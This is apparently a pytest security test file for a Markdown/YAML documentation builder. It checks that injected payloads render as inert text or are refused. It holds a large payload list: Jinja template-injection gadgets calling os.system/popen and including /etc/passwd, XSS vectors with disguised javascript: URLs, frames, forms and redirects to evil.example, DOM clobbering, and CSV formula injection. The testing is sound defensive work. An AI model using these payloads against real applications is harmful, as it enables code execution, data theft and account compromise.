"""Script, template and link payloads in every text field and body: shown as text or refused, never live.

One build holds every payload at once: a standard per payload with it in every text field and
in its Markdown body, one entity of every other kind with the payloads in its text fields, and
a docs page. The built HTML is then parsed: no scripts but the theme's, no event handlers, no
javascript:/data: URLs, no frames, embeds or forms, and each YAML payload readable as text.
Template payloads in bodies must fail with file:line; none may create a file.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from playbook.cli import main
from playbook.content.catalog import Catalog
from playbook.content.characters import PROSE
from playbook.content.errors import PlaybookError
from playbook.content.levels import LEVELS
from playbook.content.validate import validate_tree
from playbook.site import sandbox
from playbook.site.macros import make_macros

from .conftest import GOOD, build_error

CANARY = Path("/tmp/pmo-playbook-payload-canary")
TOUCH = f"touch {CANARY}"
PAYLOADS = [
    # server-side template injection (Jinja gadgets)
    "{{ config }}",
    "{{ config.items() }}",
    "{{ lipsum.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% set x = ''.__class__ %}{{ x }}",
    "{{ self }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ cycler.__init__.__globals__.os.popen('" + TOUCH + "').read() }}",
    "{{ joiner.__init__.__globals__.os.system('" + TOUCH + "') }}",
    "{{ namespace.__init__.__globals__.os.system('" + TOUCH + "') }}",
    "{{ ''|attr('__class__')|attr('__mro__') }}",
    "{{ ref|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{{ 'a' * 100000000 }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{# a comment #}{{ range(10**9)|list }}",
    # HTML
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example/></iframe>",
    "<style>body{display:none}</style>",
    "<div onmouseover=alert(1)>hover me</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example/><input type=submit></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">b</a>',
    '<a href="jav&#x09;ascript:alert(1)">c</a>',
    '<a href=" JaVaScRiPt:alert(1)">d</a>',
    '<math><mi xlink:href="javascript:alert(1)">e</mi></math>',
    # Markdown link tricks
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](x.png){: onerror=alert(1) }",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    # DOM clobbering: the theme reads its configuration from the first #__config in the page
    '<div id="__config">{"base": "https://evil.example/", "search": "https://evil.example/w.js"}</div>',
    '<label for="__drawer" id="__search">menu</label>',
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
    # spreadsheet formulas (CSV injection) in template column names
    '=HYPERLINK("https://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
DISTINCT = list({p.casefold(): p for p in reversed(PAYLOADS)}.values())
"""The payloads without those that differ only in case (glossary terms must not)."""
JINJA = [p for p in PAYLOADS if any(marker in p for marker in ("{{", "{%", "{#"))]
MARKUP = [p for p in PAYLOADS if p not in JINJA]
FORBIDDEN_TAGS = {"iframe", "frame", "object", "embed", "form", "base", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
THEME_IDS = ("__config", "__drawer", "__search")


@pytest.fixture(autouse=True)
def no_canary() -> Iterator[None]:
    CANARY.unlink(missing_ok=True)
    yield
    assert not CANARY.exists(), "a payload executed"


def test_the_page_checker_sees_live_markup():
    """The HTML checks below are only as good as `_Page`; it must flag each of these."""
    for markup in [
        "<p><script>alert(1)</script></p>",
        "<title>a</title><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href=" &#106;ava&#x09;script:x">a</a>',
        "<iframe src=x></iframe>",
        "<body><style>p{}</style></body>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<script src=https://evil.example/x.js></script>",
    ]:
        assert _check(markup).problems, markup


def test_enough_payloads():
    assert len(PAYLOADS) >= 25 and len(JINJA) >= 10 and len(MARKUP) >= 15


# --- content carrying the payloads ---------------------------------------------------------


class _Dumper(yaml.SafeDumper):
    def ignore_aliases(self, data: object) -> bool:
        return True  # the payload list appears in many fields; the loader refuses aliases


def _one_line(value: Any, key: str = "") -> Any:
    """`value` with line breaks in one-line fields made spaces: there they are refused (E-CHAR, see
    tests/examples/bad/char-*), and the payloads must reach the pages."""
    if isinstance(value, dict):
        return {k: _one_line(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_one_line(v, key) for v in value]
    return value.replace("\n", " ") if isinstance(value, str) and key not in PROSE else value


def _yaml(path: Path, kind: str, data: dict) -> None:
    schema = f"# yaml-language-server: $schema=../playbook/schemas/{kind.lower()}.schema.json\n"
    data = _one_line(data)
    envelope = {"apiVersion": "playbook/v1", "kind": kind}
    path.parent.mkdir(parents=True, exist_ok=True)
    text = yaml.dump({**envelope, **data}, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=1000)
    path.write_text(schema + text, encoding="utf-8")


def _pick(n: int) -> str:
    """A payload for a one-value field, alternating markup and template payloads."""
    return (MARKUP if n % 2 else JINJA)[n // 2 % min(len(MARKUP), len(JINJA))]


REFUSED_IN_BODIES = {
    "<iframe src=https://evil.example/></iframe>": "E-EXTERNAL",
    "<object data=https://evil.example/x.swf></object>": "E-EXTERNAL",
    "<embed src=https://evil.example/x.swf>": "E-EXTERNAL",
    '<a href="javascript:alert(1)">a</a>': "E-LINK",
    '<a href="&#106;avascript:alert(1)">b</a>': "E-LINK",
    '<a href="jav&#x09;ascript:alert(1)">c</a>': "E-LINK",
    '<a href=" JaVaScRiPt:alert(1)">d</a>': "E-LINK",
    '<math><mi xlink:href="javascript:alert(1)">e</mi></math>': "E-LINK",
    "[x](javascript:alert(1))": "E-LINK",
    "[x](JaVaScRiPt:alert(1))": "E-LINK",
    "[x](&#106;avascript:alert(1))": "E-LINK",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)": "E-LINK",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)": "E-LINK",
    "<javascript:alert(1)>": "E-LINK",
    "[ref][evil]\n\n[evil]: javascript:alert(1)": "E-LINK",
}
"""Markup payloads `playbook validate` refuses in a Markdown body, with the code it gives; the build never
sees them. The other markup payloads are built, and every page must show them inert."""


def _body(payload: str) -> str:
    return f"Before\n\n{payload}\n\nInline {payload} after.\n\n- {payload}\n\n> {payload}\n"


def _standards(root: Path) -> None:
    """A draft standard per payload, with the payload in every text field and in its body."""
    for i, payload in enumerate(PAYLOADS):
        data = {
            "id": f"STD-{900 + i}",
            "title": payload,
            "summary": f"Summary {payload}",
            "owner": "pmo-lead",
            "status": "draft",
            "version": "0.1.0",
            "maintainers": ["@pmo-office/editors"],
            "requirements": [
                {"id": "R1", "level": "MUST", "text": f"Projects MUST {payload}", "rationale": payload},
                {"id": "R2", "level": "MAY", "text": f"{payload} MAY", "evidence": ["TPL-001"]},
            ],
            "changelog": [{"version": "0.1.0", "date": "2026-01-05", "summary": payload}],
        }
        _yaml(root / f"STD-{900 + i}-payload-{i}.yaml", "Standard", data)
        if payload in MARKUP and payload not in REFUSED_IN_BODIES:  # the others fail validation: tests below
            (root / f"STD-{900 + i}-payload-{i}.md").write_text(_body(payload), encoding="utf-8")


def _other_kinds(root: Path) -> dict[str, list[str]]:
    """One entity of every other kind, its text fields holding the payloads; page → payloads shown."""
    shown: dict[str, list[str]] = {}
    n = iter(range(1000))

    def one(page: str) -> str:
        payload = _pick(next(n))
        shown.setdefault(page, []).append(payload)
        return payload

    def every(page: str, payloads: list[str] = PAYLOADS) -> list[str]:
        shown.setdefault(page, []).extend(payloads)
        return payloads

    def envelope(page: str, entity_id: str) -> dict:
        return {"id": entity_id, "title": one(page), "summary": f"Summary {one(page)}", "owner": "pmo-lead"}

    page = "roles/payload-role"
    _yaml(root / f"{page}.yaml", "Role", envelope(page, "payload-role") | {"responsibilities": every(page)})
    page = "kpis/payload"
    _yaml(
        root / "kpis/KPI-900-payload.yaml",
        "Kpi",
        envelope(page, "KPI-900")
        | {"definition": one(page), "formula": one(page), "unit": one(page), "direction": "higher-is-better"}
        | {"target": one(page), "cadence": "monthly", "data_source": one(page)}
        | {"thresholds": {"green": one(page), "amber": one(page), "red": one(page)}},
    )
    page = "ceremonies/payload-ceremony"
    _yaml(
        root / f"{page}.yaml",
        "Ceremony",
        envelope(page, "payload-ceremony")
        | {"purpose": one(page), "cadence": "weekly", "duration": 30, "facilitator": "project-lead"}
        | {"attendees": ["project-lead"], "agenda": every(page)},
    )
    page = "templates/payload-document"
    _yaml(
        root / "templates/TPL-900-payload-document.yaml",
        "Template",
        envelope(page, "TPL-900")
        | {"status": "draft", "version": "0.1.0", "format": "document", "outputs": ["docx", "md"]}
        | {"sections": [{"heading": p, "prompt": p, "table": [p]} for p in every(page)]}
        | {"changelog": [{"version": "0.1.0", "date": "2026-01-05", "summary": one(page)}]},
    )
    page = "templates/payload-table"
    _yaml(
        root / "templates/TPL-901-payload-table.yaml",
        "Template",
        envelope(page, "TPL-901")
        | {"status": "draft", "version": "0.1.0", "format": "table", "outputs": ["xlsx", "csv"]}
        | {"columns": [{"name": p, "type": "text", "description": p} for p in every(page)]}
        | {"changelog": [{"version": "0.1.0", "date": "2026-01-05", "summary": one(page)}]},
    )
    page = "guides/payload"
    _yaml(
        root / "guides/GUIDE-900-payload.yaml",
        "Guide",
        envelope(page, "GUIDE-900")
        | {"audience": ["project-lead"], "steps": [{"title": p, "do": [p], "minutes": 5} for p in every(page)]},
    )
    page = "principles/payload"
    _yaml(
        root / "principles/PRI-900-payload.yaml",
        "Principle",
        envelope(page, "PRI-900")
        | {"statement": one(page), "rationale": one(page), "implications": every(page)}
        | {"standards": ["STD-001", "STD-900", "STD-901"]},  # payload standards: their titles and summaries listed
    )
    page = "models/payload-model"
    _yaml(
        root / f"{page}.yaml",
        "PmoModel",
        envelope(page, "payload-model")
        | {"axis": "staffing", "responsibilities": every(page), "best_for": PAYLOADS, "watch_out_for": PAYLOADS}
        | {"binding": {level: {"effect": "expected", "note": one(page)} for level in LEVELS}},
    )
    glossary = yaml.safe_load((root / "glossary/glossary.yaml").read_text(encoding="utf-8"))
    glossary["terms"] += [{"term": p, "definition": p} for p in every("glossary", DISTINCT)]
    _yaml(root / "glossary/glossary.yaml", "Glossary", {k: v for k, v in glossary.items() if k not in ENVELOPE})
    lifecycle = yaml.safe_load((root / "lifecycle/lifecycle.yaml").read_text(encoding="utf-8"))
    raci = {"R": ["project-lead"], "A": "pmo-lead"}
    lifecycle["phases"].append(
        {"id": "payloads", "title": one("lifecycle"), "summary": one("lifecycle"), "gate": one("lifecycle")}
        | {"entry_criteria": every("lifecycle"), "exit_criteria": PAYLOADS}
        | {"activities": [{"id": f"payload-{i}", "title": p, "raci": raci} for i, p in enumerate(PAYLOADS)]}
    )
    _yaml(root / "lifecycle/lifecycle.yaml", "Lifecycle", {k: v for k, v in lifecycle.items() if k not in ENVELOPE})
    return shown


ENVELOPE = ("apiVersion", "kind")
SHOWN: dict[str, list[str]] = {}
"""Page → the YAML payloads it must show as text; filled by the `site` fixture."""
PAGE_KIND = {
    "roles": "Role",
    "kpis": "Kpi",
    "ceremonies": "Ceremony",
    "templates": "Template",
    "guides": "Guide",
    "principles": "Principle",
    "models": "PmoModel",
    "glossary": "Glossary",
    "lifecycle": "Lifecycle",
}


MACRO_CALLS = (
    '{{ ref("STD-001", "<img src=x onerror=alert(1)>") }} and '
    '{{ ref("STD-001", "[x](javascript:alert(1))") }} and {{ standards_table(tag="<script>") }}'
)
"""Legal macro calls whose arguments carry payloads: the output must show them as text."""


# --- reading the built HTML ----------------------------------------------------------------


def _bad_url(value: str) -> bool:
    """Whether a URL attribute runs code: javascript:, data: or vbscript:, however it is disguised."""
    plain = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()  # browsers drop these in schemes
    return plain.startswith(BAD_SCHEMES)


class _Page(HTMLParser):
    """Collects the problems of one HTML page and its visible text."""

    CDATA_CONTENT_ELEMENTS = (*HTMLParser.CDATA_CONTENT_ELEMENTS, "title")  # as browsers read <title>

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._in: list[str] = []  # open script/style elements
        self.theme_ids: list[str] = []  # ids the theme's scripts look up, in page order
        self._body = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and value and _bad_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
        theme_form = tag == "form" and (found.get("class") or "").startswith("md-") and "action" not in found
        if tag in FORBIDDEN_TAGS and not theme_form:  # the theme's search box and palette are forms
            self.problems.append(f"<{tag}>")
        refresh = (found.get("http-equiv") or "").lower() == "refresh"
        if tag == "meta" and refresh and not re.fullmatch(r"0; url=[\w./-]+", found.get("content") or ""):
            self.problems.append(f"<meta http-equiv=refresh content={found.get('content')!r}>")  # ours: relative
        if tag == "script" and found.get("src") and not re.fullmatch(r"[\w./-]+\.js(\?[\w=.]*)?", found["src"] or ""):
            self.problems.append(f"<script src={found['src']!r}>")
        if tag == "style" and self._body:
            self.problems.append("<style> in the body")
        if found.get("id") in THEME_IDS:
            self.theme_ids.append(found["id"])
        if tag == "body":
            self._body = True
        if tag in ("script", "style"):
            self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._in and tag == self._in[-1]:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if self._in and self._in[-1] == "script":
            if re.search(r"alert|evil\.example|touch ", data):
                self.problems.append(f"script content {data[:60]!r}")
        elif not self._in:
            self.text.append(data)


def _check(markup: str) -> _Page:
    page = _Page()
    page.feed(markup)
    page.close()
    return page


def _normal(text: str) -> str:
    return " ".join(text.split())


def _build(project: Path) -> Path:
    """`mkdocs build` of `project`, not strict: link tricks may warn; what matters is the HTML."""
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    config = load_config(str(project / "mkdocs.yml"), strict=False, site_dir=str(project / "site"))
    mkdocs_build(config)
    return project / "site"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import shutil

    from .conftest import ROOT, site_config

    project = tmp_path_factory.mktemp("payloads")
    content = project / "standards"
    shutil.copytree(GOOD, content)
    _standards(content)
    SHOWN.update(_other_kinds(content))
    (project / "docs").mkdir()
    shutil.copytree(ROOT / "macros", project / "macros")
    inert = [p for p in MARKUP if p not in REFUSED_IN_BODIES]  # the others stop the build: tests below
    page = "# Home\n\n" + "\n\n".join(inert) + f"\n\n{MACRO_CALLS}\n"
    (project / "docs" / "index.md").write_text(page, encoding="utf-8")
    (project / "mkdocs.yml").write_text(yaml.safe_dump(site_config(content)), encoding="utf-8")
    problems = "\n".join(str(d) for d in validate_tree(content).diagnostics)
    assert not problems
    return _build(project)


def _pages(site: Path) -> Iterator[Path]:
    return (p for p in sorted(site.rglob("*.html")) if "downloads" not in p.parts)


def test_no_page_has_live_markup(site: Path):
    checked = {str(p.relative_to(site)): _check(p.read_text(encoding="utf-8")) for p in _pages(site)}
    problems = {
        page: c.problems + [f"id {i} twice" for i in set(c.theme_ids) if c.theme_ids.count(i) > 1]
        for page, c in checked.items()
    }
    assert len(problems) > len(PAYLOADS)
    assert {page: found for page, found in problems.items() if found} == {}


def test_yaml_payloads_show_as_text_on_every_standard(site: Path):
    for i, payload in enumerate(PAYLOADS):
        page = _check((site / f"standards/payload-{i}/index.html").read_text(encoding="utf-8"))
        shown = _normal("".join(page.text))
        for field in (payload, f"Summary {payload}", f"Projects MUST {payload}", f"{payload} MAY"):
            assert _normal(field) in shown, (i, field)


@pytest.mark.parametrize("kind", sorted(set(PAGE_KIND.values())))
def test_yaml_payloads_show_as_text_on_other_kinds(site: Path, kind: str):
    pages = [page for page in SHOWN if PAGE_KIND[page.split("/")[0]] == kind]
    assert pages
    for page in pages:
        shown = _normal("".join(_check((site / page / "index.html").read_text(encoding="utf-8")).text))
        assert [p for p in SHOWN[page] if _normal(p) not in shown] == [], page


def test_macro_arguments_show_as_text(site: Path):
    shown = _normal("".join(_check((site / "index.html").read_text(encoding="utf-8")).text))
    assert "<img src=x onerror=alert(1)>" in shown and "[x](javascript:alert(1))" in shown


def test_search_index_carries_no_live_markup(site: Path):
    import json

    docs = json.loads((site / "search/search_index.json").read_text(encoding="utf-8"))["docs"]
    problems = [(d["location"], _check(d["title"]).problems + _check(d["text"]).problems) for d in docs]
    assert [p for p in problems if p[1]] == []


def test_spreadsheet_formulas_stay_text(site: Path):
    import csv
    import io

    import openpyxl

    downloads = site / "downloads"
    row = next(csv.reader(io.StringIO(next(downloads.rglob("TPL-901-*.csv")).read_text(encoding="utf-8"))))
    assert [cell for cell in row if cell.lstrip("'").startswith(("=", "@"))] == [f"'{p}" for p in PAYLOADS[-2:]]
    sheet = openpyxl.load_workbook(next(downloads.rglob("TPL-901-*.xlsx"))).worksheets[0]
    assert all(cell.data_type == "s" for cell in sheet[1])


# --- template payloads in Markdown bodies and pages ------------------------------------------


@pytest.fixture(scope="module")
def environment():
    return sandbox.make_environment(make_macros(Catalog.of(validate_tree(GOOD).entities)))


@pytest.mark.parametrize("payload", JINJA)
def test_template_payload_in_a_body_is_refused_with_its_line(payload: str, environment):
    text = f"Intro\n\nSee {{{{ ref('STD-001') }}}}.\n{payload}\n"
    with pytest.raises(PlaybookError) as caught:
        sandbox.render(text, environment, source="standards/STD-001-status-reporting.md")
    message = caught.value.format_message()
    assert re.match(r"standards/STD-001-status-reporting\.md:4:1: E-(TEMPLATE|MACRO) ", message), message


def test_template_payload_fails_a_real_build(good_catalog: Path, make_site: Callable[..., Path], caplog):
    """The same refusal through MkDocs and the plugin, with a gadget that would create a file."""
    payload = next(p for p in JINJA if "touch" in p)
    (good_catalog / "STD-001-status-reporting.md").write_text(f"Intro\n\n{payload}\n", encoding="utf-8")
    assert "STD-001-status-reporting.md:3:1: E-TEMPLATE" in build_error(make_site(good_catalog), caplog)


@pytest.mark.parametrize("payload", sorted(REFUSED_IN_BODIES))
def test_markup_payloads_a_body_may_not_carry_are_refused_by_validate(payload: str, good_catalog: Path):
    (good_catalog / "STD-001-status-reporting.md").write_text(_body(payload), encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", str(good_catalog)], catch_exceptions=False)
    lines = [line for line in result.output.splitlines() if "STD-001-status-reporting.md:" in line]
    assert result.exit_code == 1 and lines, result.output
    assert all(f": {REFUSED_IN_BODIES[payload]} " in line for line in lines), lines


def test_markup_payloads_a_page_may_not_carry_stop_the_build(good_catalog: Path, make_site, caplog):
    page = "# Home\n\n" + "\n\n".join(sorted(REFUSED_IN_BODIES)) + "\n"
    error = build_error(make_site(good_catalog, {"index.md": page}), caplog)
    codes = re.findall(r"docs/index\.md:\d+:\d+: (E-[A-Z]+) ", error)
    assert sorted(set(codes)) == sorted(set(REFUSED_IN_BODIES.values())), error
    assert len(codes) >= len(REFUSED_IN_BODIES), error  # each payload refused, some more than once
